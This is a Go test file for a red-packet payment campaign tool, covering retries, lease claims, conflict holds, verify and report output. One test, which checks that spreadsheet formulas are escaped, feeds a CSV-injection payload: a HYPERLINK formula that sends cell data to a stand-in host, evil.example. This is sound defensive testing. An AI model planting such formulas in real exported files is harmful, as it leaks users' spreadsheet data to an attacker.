package campaign

import (
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"github.com/redpack-go/redpack"
	"io"
	"net/http"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/redpack-go/redpack/redpacktest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Review finding 1: the row's bill was paid to another openid; the re-send
// answers CONFLICT (FATAL_ERROR). verify must never read that record as the
// row's payment, and run must hold the row instead of re-sending it.
func TestConflictHeldNeverPaid(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			ctx := context.Background()
			_, err := db.Plan(ctx, basePlan("h"), csvOpener("key,openid,amount\na,oRIGHT1,100\n"))
			require.NoError(t, err)
			bill := row(t, db, "h", "a").Row.BillNo
			// Something else pays the bill to another openid first.
			p := payment{billNo: bill, openID: "oWRONG2", amount: 100, sendName: "Shop", wishing: "Thanks", actName: "Promo", remark: "r"}
			_, err = testClient(srv).Send(ctx, p.request())
			require.NoError(t, err)

			res := runDone(t, db, srv, "h")
			assert.Contains(t, res.PauseReason, "CONFLICT")
			r := row(t, db, "h", "a").Row
			assert.Equal(t, "CONFLICT", r.Status)
			assert.Equal(t, "FATAL_ERROR", r.ErrCode)

			_, err = db.Verify(ctx, "h", VerifyOptions{Client: testClient(srv), Rate: -1})
			require.NoError(t, err)
			r = row(t, db, "h", "a").Row
			assert.NotEqual(t, StatusPaid, r.Status, "another payment's record never settles the row")
			assert.NotEqual(t, "SENT", r.WxStatus)
			s, err := db.Summary(ctx, "h")
			require.NoError(t, err)
			assert.Zero(t, s.Paid.Rows)

			// A second run does not re-send the conflicting request.
			sends := func() int {
				n := 0
				for _, q := range srv.Requests() {
					if q.Endpoint == redpacktest.EndpointSend {
						n++
					}
				}
				return n
			}
			before := sends()
			res = runDone(t, db, srv, "h")
			assert.False(t, res.Done)
			assert.Contains(t, res.PauseReason, "CONFLICT")
			assert.Equal(t, before, sends(), "a held row is not re-sent")
			assert.Len(t, srv.Packets(), 1)

			// The operator's explicit retry gives it a new bill.
			rr, err := db.Retry(ctx, "h", []string{"FATAL_ERROR"})
			require.NoError(t, err)
			assert.Equal(t, 1, rr.Retried)
			res = runDone(t, db, srv, "h")
			require.True(t, res.Done, "%+v", res)
			assert.Len(t, srv.Packets(), 2)
		})
	}
}

// Review finding 2: a retry that read its FAILED rows before another retry
// (or a run) moved them must change nothing: no skipped generation, no PAID
// or in-flight row turned back to PLANNED.
func TestRetryIsConditional(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0), redpacktest.WithUserDailyLimits(1, 100000))
			defer srv.Close()
			ctx := context.Background()
			_, err := db.Plan(ctx, basePlan("r"), csvOpener("key,openid,amount\nx,oSame,100\ny,oSame,100\n"))
			require.NoError(t, err)
			res := runDone(t, db, srv, "r")
			require.True(t, res.Done)
			c, err := db.campaign(ctx, db.sql, "r")
			require.NoError(t, err)
			// Retry #2 reads its list first ...
			var stale []retryCand
			require.NoError(t, db.tx(ctx, func(tx *sql.Tx) error {
				stale, _, err = db.retryCandidates(ctx, tx, "r", nil)
				return err
			}))
			require.Len(t, stale, 1)
			// ... retry #1 commits, and a run pays the new generation.
			rr, err := db.Retry(ctx, "r", nil)
			require.NoError(t, err)
			require.Equal(t, 1, rr.Retried)
			apply := func() int {
				var n int
				require.NoError(t, db.tx(ctx, func(tx *sql.Tx) error {
					n, err = db.retryApply(ctx, tx, c, stale)
					return err
				}))
				return n
			}
			// Generation 1 is PLANNED (a run may be sending it): the stale
			// retry must not move it to generation 2.
			assert.Zero(t, apply(), "a stale candidate is not regenerated")
			// A run pays generation 1 (no daily limit on this server).
			srv2 := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv2.Close()
			require.True(t, runDone(t, db, srv2, "r").Done)
			var key string
			for _, k := range []string{"x", "y"} {
				if row(t, db, "r", k).Row.Generation == 1 {
					key = k
				}
			}
			require.NotEmpty(t, key)
			before := row(t, db, "r", key).Row
			require.Equal(t, StatusPaid, before.Status)
			assert.Zero(t, apply(), "a PAID row is never regenerated")
			after := row(t, db, "r", key).Row
			assert.Equal(t, before.Generation, after.Generation)
			assert.Equal(t, before.BillNo, after.BillNo)
			assert.Equal(t, before.Status, after.Status)
		})
	}
}

// Review finding 3: a claim whose lease ran out (another claim of the same
// process owns the row now) cannot overwrite the row; an OK of an older
// generation pauses the campaign instead of vanishing; a merchant-wide
// FINAL keeps the bill number.
func TestRecordStaleClaim(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			ctx := context.Background()
			r := planRunner(t, db, "s", "key,openid,amount\na,oA,100\n")
			expire := func() {
				_, err := db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET lease_until = 0 WHERE campaign_id = ?`), "s")
				require.NoError(t, err)
			}
			cl1 := mustClaim(t, r, 1)
			expire()
			cl2 := mustClaim(t, r, 1)
			bill := cl2.pay.billNo
			// The stale claim's answers change nothing.
			require.NoError(t, r.record(ctx, cl1, answer{outcome: outFinal, errCode: "NOTENOUGH"}))
			require.NoError(t, r.record(ctx, cl1, answer{outcome: outFinal, errCode: "SENDNUM_LIMIT"}))
			got := row(t, db, "s", "a").Row
			assert.Equal(t, StatusUnknown, got.Status)
			assert.Equal(t, 0, got.Generation)
			assert.Equal(t, bill, got.BillNo)
			assert.Empty(t, got.ErrCode)

			// The live claim's NOTENOUGH pauses and keeps the bill: a query
			// comes next, no new bill number without retry.
			require.NoError(t, r.record(ctx, cl2, answer{outcome: outFinal, errCode: "NOTENOUGH"}))
			got = row(t, db, "s", "a").Row
			assert.Equal(t, 0, got.Generation)
			assert.Equal(t, bill, got.BillNo)
			assert.True(t, got.Pending)
			s, err := db.Summary(ctx, "s")
			require.NoError(t, err)
			assert.Contains(t, s.PauseReason, "NOTENOUGH")
			require.NoError(t, db.Resume(ctx, "s"))

			// An OK of an older generation is never dropped.
			cl3 := mustClaim(t, r, 1)
			_, err = db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET generation = 1 WHERE campaign_id = ?`), "s")
			require.NoError(t, err)
			// ... and a send of generation 1 went out (without one the row
			// goes back to the bill that paid: TestPaidOldGeneration).
			_, err = db.sql.ExecContext(ctx, db.q(`INSERT INTO redpack_attempts (campaign_id, seq, n, kind, bill_no, generation, worker, started_at)
				VALUES (?, 1, 99, 'send', 'GEN1BILL', 1, 'w2', 1)`), "s")
			require.NoError(t, err)
			require.NoError(t, r.record(ctx, cl3, answer{outcome: outOK}))
			s, err = db.Summary(ctx, "s")
			require.NoError(t, err)
			assert.Contains(t, s.PauseReason, bill)
			assert.Contains(t, s.PauseReason, "paid twice")
		})
	}
}

// Review finding 4: the file changes between plan's two reads; what pass 1
// checked (-max-total, the summary) must be what is stored, or nothing is.
func TestPlanInputChangedBetweenPasses(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			ctx := context.Background()
			calls := 0
			open := func() (io.ReadCloser, error) {
				calls++
				s := "key,openid,amount\na,oA,100\n"
				if calls > 1 {
					s += "b,oB,20000\nc,oC,20000\n"
				}
				return io.NopCloser(strings.NewReader(s)), nil
			}
			opts := basePlan("p")
			opts.MaxTotal = 1000
			_, err := db.Plan(ctx, opts, open)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrInputChanged)
			_, err = db.Summary(ctx, "p")
			assert.ErrorIs(t, err, ErrNoCampaign, "nothing stored")

			// Same row count and total, another openid: refused too.
			calls = 0
			open2 := func() (io.ReadCloser, error) {
				calls++
				o := "oA"
				if calls > 1 {
					o = "oEVIL"
				}
				return io.NopCloser(strings.NewReader("key,openid,amount\na," + o + ",100\n")), nil
			}
			_, err = db.Plan(ctx, opts, open2)
			assert.ErrorIs(t, err, ErrInputChanged)
		})
	}
}

// Review finding 6: merchant-wide codes pause the campaign and fail no row;
// the next run pays everything. Per-row FINAL codes still fail the row.
func TestMerchantWideCodesPause(t *testing.T) {
	for _, code := range []string{"DAY_OVER_LIMITED", "MSGAPPID_ERROR", "ACCEPTMODE_ERROR"} {
		t.Run(code, func(t *testing.T) {
			db := openTest(t, "sqlite")
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			_, err := db.Plan(context.Background(), basePlan("w"), csvOpener(genCSV(10, 10)))
			require.NoError(t, err)
			require.NoError(t, srv.Inject(redpacktest.EndpointSend, redpacktest.ResultFail(code), 1))
			res := runDone(t, db, srv, "w")
			assert.False(t, res.Done)
			assert.Contains(t, res.PauseReason, code)
			assert.Zero(t, res.Summary.Failed.Rows, "no row fails for a merchant-wide stop")
			res = runDone(t, db, srv, "w")
			require.True(t, res.Done, "%+v", res)
			assert.Equal(t, int64(10), res.Summary.Paid.Rows)
			assert.Len(t, srv.Packets(), 10)
		})
	}
	t.Run("per-row FINAL fails the row", func(t *testing.T) {
		db := openTest(t, "sqlite")
		srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
		defer srv.Close()
		_, err := db.Plan(context.Background(), basePlan("w"), csvOpener(genCSV(3, 3)))
		require.NoError(t, err)
		require.NoError(t, srv.Inject(redpacktest.EndpointSend, redpacktest.ResultFail("RCVDAMOUNT_LIMIT"), 1))
		res := runDone(t, db, srv, "w")
		require.True(t, res.Done, "%+v", res)
		assert.Equal(t, int64(1), res.Summary.Failed.Rows)
	})
}

// Review finding 9: no part of a Postgres password is ever echoed, not even
// with a raw '@' in it.
func TestOpenNeverEchoesPassword(t *testing.T) {
	for _, dsn := range []string{
		"postgres://u:s3c@retPW@127.0.0.1:1/db?connect_timeout=x",
		"postgres://u:s3c@retPW@127.0.0.1:1/db?sslmode=bogus",
		"postgresql://u:p%40ss@retPW@127.0.0.1:1/db?connect_timeout=1",
		"postgres://u:s3c@retPW@127.0.0.1:1/db?connect_timeout=1",
	} {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		_, err := Open(ctx, dsn)
		cancel()
		require.Error(t, err, dsn)
		msg := err.Error()
		for _, part := range []string{"s3c", "retPW", "p%40ss"} {
			assert.NotContains(t, msg, part, "error for a URL with a password echoes part of it")
		}
	}
}

// Review finding 8: report cells that a spreadsheet would run as a formula
// are escaped.
func TestReportEscapesFormulas(t *testing.T) {
	db := openTest(t, "sqlite")
	ctx := context.Background()
	in := "key,openid,amount\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"click\"\")\",oA,100\n@SUM(1+1),oB,100\n+1,oC,100\n-2,-oD,100\nplain,oE,100\n"
	_, err := db.Plan(ctx, basePlan("x"), csvOpener(in))
	require.NoError(t, err)
	var b strings.Builder
	require.NoError(t, db.Report(ctx, "x", &b))
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 6)
	for _, r := range recs[1:] {
		for i, cell := range r {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s cell %q", ReportColumns[i], cell)
			}
		}
	}
	assert.Equal(t, "'@SUM(1+1)", recs[2][0])
	assert.Equal(t, "'-oD", recs[4][1])
	assert.Equal(t, "plain", recs[5][0])
}

// okErr is a non-nil error claiming OutcomeOK.
type okErr struct{}

func (okErr) Error() string            { return "claims OK" }
func (okErr) Outcome() redpack.Outcome { return redpack.OutcomeOK }

// Review finding 10: only err == nil (or a Check record) is proof of
// payment; a non-nil error never reads as PAID.
func TestNonNilErrorNeverOK(t *testing.T) {
	assert.Equal(t, outOK, classify(nil).outcome)
	a := classify(fmt.Errorf("wrapped: %w", okErr{}))
	assert.Equal(t, outUnknown, a.outcome)
}

// quotedSpan is a key field opened by a quote that never closes, with a
// newline every 1000 bytes, for n bytes.
type quotedSpan struct{ n, sent int }

func (q *quotedSpan) Read(p []byte) (int, error) {
	if q.sent >= q.n {
		return 0, io.EOF
	}
	for i := range p {
		if q.sent%1000 == 999 {
			p[i] = '\n'
		} else {
			p[i] = 'x'
		}
		q.sent++
		if q.sent >= q.n {
			return i + 1, nil
		}
	}
	return len(p), nil
}

// Review finding 7: one quoted field spanning many lines is refused once
// the record passes 64 KiB, with the line it started on, without being
// held.
func TestParseCSVQuotedFieldSpanningLines(t *testing.T) {
	r := io.MultiReader(strings.NewReader("key,openid,amount\nk1,o1,100\n\""), &quotedSpan{n: 30 << 20})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	err := ParseCSV(r, func(InputRow) error { return nil })
	runtime.ReadMemStats(&after)
	var pe *PlanError
	require.ErrorAs(t, err, &pe)
	require.NotEmpty(t, pe.Problems)
	p := pe.Problems[len(pe.Problems)-1]
	assert.Equal(t, 3, p.Line, "the line the record started on")
	assert.Contains(t, p.Msg, "longer than 64 KiB")
	assert.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(8<<20), "the field is not held")

	// Quoted newlines and "" escapes in ordinary records are not mistaken.
	var keys []string
	ok := "key,openid,amount,wishing\n\"a\"\"b\",o1,100,\"two, lines\"\nc,o2,100,\"x,\"\"y\"\"\"\n"
	require.NoError(t, ParseCSV(strings.NewReader(ok), func(r InputRow) error { keys = append(keys, r.Key); return nil }))
	assert.Equal(t, []string{"a\"b", "c"}, keys)
}

// Review finding 5: heartbeats run on their own ticker, and a worker
// wrongly reaped (its stopped_at set by a survivor) is alive again on its
// next heartbeat; the clock skew to the database is measured.
func TestHeartbeatOwnTickerReRegisters(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			_, err := db.Plan(ctx, basePlan("hb"), csvOpener(genCSV(3, 3)))
			require.NoError(t, err)
			require.NoError(t, db.Pause(ctx, "hb"))
			done := make(chan error, 1)
			go func() {
				res, err := db.Run(ctx, "hb", RunOptions{Client: testClient(srv), Rate: -1, Backoff: fastBackoff, WorkerID: "w-hb"})
				if err == nil && ctx.Err() == nil {
					err = fmt.Errorf("run returned early: %+v %+v", res, res.Summary)
				}
				done <- err
			}()
			stopped := func() (int64, int64) {
				var st, hb int64
				require.NoError(t, db.sql.QueryRowContext(context.Background(), db.q(`SELECT stopped_at, heartbeat_at FROM redpack_workers WHERE id = ?`), "w-hb").Scan(&st, &hb))
				return st, hb
			}
			require.Eventually(t, func() bool {
				var n int
				db.sql.QueryRowContext(ctx, db.q(`SELECT COUNT(*) FROM redpack_workers WHERE id = ?`), "w-hb").Scan(&n) //nolint:errcheck
				return n == 1
			}, 10*time.Second, 50*time.Millisecond)
			_, err = db.sql.ExecContext(ctx, db.q(`UPDATE redpack_workers SET stopped_at = 1 WHERE id = ?`), "w-hb")
			require.NoError(t, err)
			_, hb0 := stopped()
			require.Eventually(t, func() bool {
				st, hb := stopped()
				select {
				case err := <-done:
					t.Fatalf("run ended: %v", err)
				default:
				}
				return st == 0 && hb > hb0
			}, 3*heartbeatEvery, 50*time.Millisecond, "the reaped worker's heartbeat registers it again")
			s, err := db.Summary(ctx, "hb")
			require.NoError(t, err)
			assert.Equal(t, 1, s.Workers)
			skew, err := db.clockSkew(ctx)
			require.NoError(t, err)
			assert.Less(t, max(skew, -skew), int64(time.Second/time.Microsecond), "same machine: small skew")
			cancel()
			require.NoError(t, <-done)
		})
	}
}

// Review finding 5 (clock): a machine whose clock is a minute ahead still
// writes leases on the database clock, so it neither steals leases nor
// looks alive forever.
func TestLeaseOnDatabaseClock(t *testing.T) {
	db := openTest(t, "postgres")
	ctx := context.Background()
	_, err := db.Plan(ctx, basePlan("k"), csvOpener("key,openid,amount\na,oA,100\n"))
	require.NoError(t, err)
	c, err := db.campaign(ctx, db.sql, "k")
	require.NoError(t, err)
	real := nowMicros
	defer func() { nowMicros = real }()
	ahead := time.Minute.Microseconds()
	nowMicros = func() int64 { return real() + ahead }
	skew, err := db.clockSkew(ctx)
	require.NoError(t, err)
	r := &runner{db: db, c: c, opts: RunOptions{Backoff: fastBackoff.withDefaults()}, worker: "w-ahead"}
	r.skew.Store(skew)
	mustClaim(t, r, 1)
	var lease, dbNow int64
	require.NoError(t, db.sql.QueryRowContext(ctx, `SELECT lease_until, (EXTRACT(EPOCH FROM clock_timestamp()) * 1000000)::BIGINT FROM redpack_rows WHERE campaign_id = 'k'`).Scan(&lease, &dbNow))
	d := time.Duration(lease-dbNow) * time.Microsecond
	assert.InDelta(t, rowLease.Seconds(), d.Seconds(), 2, "lease is %v ahead of the database clock", d)
}

// A bill that met a merchant-wide stop may yet pay until its record proves
// it FAILED: a query of it that never went out (the limiter wait ended)
// keeps the row UNKNOWN, so that summary, report and verify still see the
// sent bill, and the query after the fix gives the row its next bill.
func TestMerchantFinalQueryNotSentStaysUnknown(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			ctx := context.Background()
			r := planRunner(t, db, "n", "key,openid,amount\na,oA,100\n")
			cl := mustClaim(t, r, 1)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outFinal, errCode: "NOTENOUGH"}))
			require.NoError(t, db.Resume(ctx, "n"))

			cl = mustClaim(t, r, 1)
			require.Equal(t, "query", cl.kind)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outNotSent, detail: "stopped before sending"}))
			got := row(t, db, "n", "a").Row
			assert.Equal(t, StatusUnknown, got.Status, "the bill went out: not PLANNED")
			assert.True(t, got.Pending)
			assert.Equal(t, 0, got.Generation)

			// The query after the fix finds the FAILED record: next bill.
			_, err := db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET next_at = 0 WHERE campaign_id = ?`), "n")
			require.NoError(t, err)
			cl = mustClaim(t, r, 1)
			require.Equal(t, "query", cl.kind)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outFinal, errCode: "FAILED", wxStatus: "FAILED"}))
			got = row(t, db, "n", "a").Row
			assert.Equal(t, StatusPlanned, got.Status)
			assert.Equal(t, 1, got.Generation)
		})
	}
}

type rtFunc func(*http.Request) (*http.Response, error)

func (f rtFunc) RoundTrip(q *http.Request) (*http.Response, error) { return f(q) }

// cancelOnEOF cancels when the answer's body has been read to its end.
type cancelOnEOF struct {
	io.ReadCloser
	cancel context.CancelFunc
}

func (b cancelOnEOF) Read(p []byte) (int, error) {
	n, err := b.ReadCloser.Read(p)
	if err == io.EOF {
		b.cancel()
	}
	return n, err
}

// An answer verify received is recorded even when its context ends right
// after (Ctrl-C): the record of a query is never lost.
func TestVerifyRecordsAnswerAfterCancel(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			ctx := context.Background()
			_, err := db.Plan(ctx, basePlan("v"), csvOpener("key,openid,amount\na,oA,100\n"))
			require.NoError(t, err)
			r := row(t, db, "v", "a").Row
			p := payment{billNo: r.BillNo, openID: "oA", amount: 100, sendName: "Shop", wishing: "Thanks", actName: "Promo", remark: "r"}
			_, err = testClient(srv).Send(ctx, p.request())
			require.NoError(t, err)
			_, err = db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET status = ?, unknown_seen = 1 WHERE campaign_id = ?`), StatusUnknown, "v")
			require.NoError(t, err)

			vctx, cancel := context.WithCancel(ctx)
			defer cancel()
			client := srv.NewClient(redpack.WithRetryPolicy(redpack.RetryPolicy{MaxAttempts: 1}), redpack.WithNodeID(1),
				redpack.WithTransportWrapper(func(next http.RoundTripper) http.RoundTripper {
					return rtFunc(func(q *http.Request) (*http.Response, error) {
						res, err := next.RoundTrip(q)
						if err == nil {
							res.Body = cancelOnEOF{res.Body, cancel}
						}
						return res, err
					})
				}))
			db.Verify(vctx, "v", VerifyOptions{Client: client, Rate: -1, Concurrency: 1}) //nolint:errcheck
			h := row(t, db, "v", "a")
			require.Len(t, h.Attempts, 1)
			a := h.Attempts[0]
			assert.Equal(t, outOK, a.Outcome, a.Detail)
			assert.False(t, a.FinishedAt.IsZero())
			assert.Equal(t, StatusPaid, h.Row.Status)
		})
	}
}

// A run that takes a row over while verify's query is out (it released
// verify's lease) keeps its claim: verify's stale claim records only an OK,
// never clears the lease or relabels the row.
func TestVerifyStaleClaimLeavesRow(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			ctx := context.Background()
			_, err := db.Plan(ctx, basePlan("v"), csvOpener("key,openid,amount\na,oA,100\n"))
			require.NoError(t, err)
			_, err = db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET status = ?, unknown_seen = 1 WHERE campaign_id = ?`), StatusUnknown, "v")
			require.NoError(t, err)
			takeover := func() error {
				_, err := db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET attempts = attempts + 1, lease_owner = 'run', lease_until = ? WHERE campaign_id = ?`),
					nowMicros()+time.Minute.Microseconds(), "v")
				return err
			}
			client := srv.NewClient(redpack.WithRetryPolicy(redpack.RetryPolicy{MaxAttempts: 1}), redpack.WithNodeID(1),
				redpack.WithTransportWrapper(func(next http.RoundTripper) http.RoundTripper {
					return rtFunc(func(q *http.Request) (*http.Response, error) {
						if err := takeover(); err != nil {
							return nil, err
						}
						return next.RoundTrip(q)
					})
				}))
			_, err = db.Verify(ctx, "v", VerifyOptions{Client: client, Rate: -1, Concurrency: 1})
			require.NoError(t, err)
			var owner, status string
			require.NoError(t, db.sql.QueryRowContext(ctx, db.q(`SELECT lease_owner, status FROM redpack_rows WHERE campaign_id = ?`), "v").Scan(&owner, &status))
			assert.Equal(t, "run", owner, "verify's stale claim released the run's lease")
			assert.Equal(t, StatusUnknown, status)
			h := row(t, db, "v", "a")
			require.Len(t, h.Attempts, 1)
			assert.False(t, h.Attempts[0].FinishedAt.IsZero(), "the query's attempt is completed all the same")
		})
	}
}

// An OK of a generation the row has left is never dropped, and it holds the
// campaign for the operator over a merchant-wide stop already in place: the
// next run does not resume it. When a send of the new generation went out,
// the row may be paid twice and stays on the new bill; when none did, the
// row goes back to the bill that paid, PAID, so resuming sends nothing more.
func TestPaidOldGeneration(t *testing.T) {
	for _, kind := range kinds {
		for _, newBillSent := range []bool{true, false} {
			t.Run(fmt.Sprintf("%s/new bill sent %v", kind, newBillSent), func(t *testing.T) {
				db := openTest(t, kind)
				srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
				defer srv.Close()
				ctx := context.Background()
				r := planRunner(t, db, "g", "key,openid,amount\na,oA,100\nb,oB,100\n")
				cl := mustClaim(t, r, 1)
				other := mustClaim(t, r, 2)
				require.NoError(t, r.record(ctx, other, answer{outcome: outFinal, errCode: "NOTENOUGH"}))
				// The row moves to generation 1; then generation 0's bill
				// answers OK.
				status := StatusPlanned
				if newBillSent {
					status = StatusUnknown
				}
				_, err := db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET generation = 1, bill_no = 'GEN1BILL', status = ? WHERE campaign_id = ? AND seq = 1`), status, "g")
				require.NoError(t, err)
				if newBillSent {
					// A send of generation 1 went out, its answer unseen.
					_, err = db.sql.ExecContext(ctx, db.q(`INSERT INTO redpack_attempts (campaign_id, seq, n, kind, bill_no, generation, worker, started_at)
						VALUES (?, 1, 99, 'send', 'GEN1BILL', 1, 'w2', 1)`), "g")
					require.NoError(t, err)
				}
				require.NoError(t, r.record(ctx, cl, answer{outcome: outOK, sendListID: "LIST1"}))
				s, err := db.Summary(ctx, "g")
				require.NoError(t, err)
				assert.Equal(t, PauseOperator, s.PauseKind)
				var (
					gen            int
					bill, st, list string
				)
				require.NoError(t, db.sql.QueryRowContext(ctx, db.q(`SELECT generation, bill_no, status, send_listid FROM redpack_rows WHERE campaign_id = ? AND seq = 1`), "g").Scan(&gen, &bill, &st, &list))
				if newBillSent {
					assert.Contains(t, s.PauseReason, "paid twice")
					assert.Equal(t, 1, gen, "the row stays on the bill that may have gone out")
				} else {
					assert.Contains(t, s.PauseReason, "back on the bill that paid")
					assert.Equal(t, []any{0, cl.pay.billNo, StatusPaid, "LIST1"}, []any{gen, bill, st, list}, "the row is back on the bill that paid")
				}

				rctx, cancel := context.WithTimeout(ctx, 500*time.Millisecond)
				defer cancel()
				_, err = db.Run(rctx, "g", RunOptions{Client: testClient(srv), Rate: -1, Backoff: fastBackoff})
				require.NoError(t, err)
				s, err = db.Summary(ctx, "g")
				require.NoError(t, err)
				assert.Equal(t, StatePaused, s.State, "run does not resume a hold")
				assert.Equal(t, PauseOperator, s.PauseKind)
				if newBillSent {
					assert.Contains(t, s.PauseReason, "paid twice")
				} else {
					assert.Contains(t, s.PauseReason, "back on the bill that paid")
				}
				assert.Empty(t, srv.Packets(), "nothing sent while held")
			})
		}
	}
}

// A CONFLICT row retried gets a new bill; when that bill pays and the
// process dies before recording it, verify reads the new bill's own record
// as paid: the old bill's FATAL_ERROR belongs to the old generation and
// never makes the new one CONFLICT (which `retry -codes FATAL_ERROR` would
// give a third bill: paid twice).
func TestRetriedConflictPaidThenCrashVerifies(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
			defer srv.Close()
			ctx := context.Background()
			r := planRunner(t, db, "x", "key,openid,amount\na,oA,100\n")
			cl := mustClaim(t, r, 1)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outConflict, errCode: "FATAL_ERROR"}))
			rr, err := db.Retry(ctx, "x", []string{"FATAL_ERROR"})
			require.NoError(t, err)
			require.Equal(t, 1, rr.Retried)

			// The new bill is claimed and paid; the process dies before
			// the answer is recorded.
			cl = mustClaim(t, r, 1)
			require.Equal(t, 1, cl.generation)
			_, err = testClient(srv).Send(ctx, cl.pay.request())
			require.NoError(t, err)
			_, err = db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET lease_until = 0 WHERE campaign_id = ?`), "x")
			require.NoError(t, err)

			_, err = db.Verify(ctx, "x", VerifyOptions{Client: testClient(srv), Rate: -1})
			require.NoError(t, err)
			got := row(t, db, "x", "a").Row
			assert.Equal(t, StatusPaid, got.Status)
			rr, err = db.Retry(ctx, "x", []string{"FATAL_ERROR"})
			require.NoError(t, err)
			assert.Zero(t, rr.Retried)
			assert.Equal(t, 1, row(t, db, "x", "a").Row.Generation)
		})
	}
}

// A row held because a query found its bill's record to be another
// payment's (RECORD_MISMATCH) is retried by the command its advice and the
// run's pause name: `retry -codes FATAL_ERROR`, like any CONFLICT row.
func TestRetryRecordMismatchByAdvisedCode(t *testing.T) {
	for _, kind := range kinds {
		t.Run(kind, func(t *testing.T) {
			db := openTest(t, kind)
			ctx := context.Background()
			r := planRunner(t, db, "m", "key,openid,amount\na,oA,100\n")
			cl := mustClaim(t, r, 1)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outPending, errCode: "PROCESSING"}))
			_, err := db.sql.ExecContext(ctx, db.q(`UPDATE redpack_rows SET next_at = 0 WHERE campaign_id = ?`), "m")
			require.NoError(t, err)
			cl = mustClaim(t, r, 1)
			require.Equal(t, "query", cl.kind)
			require.NoError(t, r.record(ctx, cl, answer{outcome: outConflict, errCode: "RECORD_MISMATCH", wxStatus: "SENT"}))
			got := row(t, db, "m", "a").Row
			require.Equal(t, StatusConflict, got.Status)
			require.Equal(t, "RECORD_MISMATCH", got.ErrCode)
			assert.Contains(t, Advice(got.ErrCode), "retry -codes FATAL_ERROR")

			rr, err := db.Retry(ctx, "m", []string{"FATAL_ERROR"})
			require.NoError(t, err)
			assert.Equal(t, 1, rr.Retried)
			got = row(t, db, "m", "a").Row
			assert.Equal(t, 1, got.Generation)
			assert.Equal(t, StatusPlanned, got.Status)
		})
	}
}

// planRunner plans csv as campaign id on db and returns a runner on it
// (worker "w1", fast back-off), for tests that drive claim and record by
// hand.
func planRunner(t *testing.T, db *DB, id, csv string) *runner {
	t.Helper()
	ctx := context.Background()
	_, err := db.Plan(ctx, basePlan(id), csvOpener(csv))
	require.NoError(t, err)
	c, err := db.campaign(ctx, db.sql, id)
	require.NoError(t, err)
	return &runner{db: db, c: c, opts: RunOptions{Backoff: fastBackoff.withDefaults()}, worker: "w1"}
}

// mustClaim claims row seq with r; the row must be claimable.
func mustClaim(t *testing.T, r *runner, seq int64) *claimed {
	t.Helper()
	cl, err := r.claim(context.Background(), seq)
	require.NoError(t, err)
	require.NotNil(t, cl)
	return cl
}
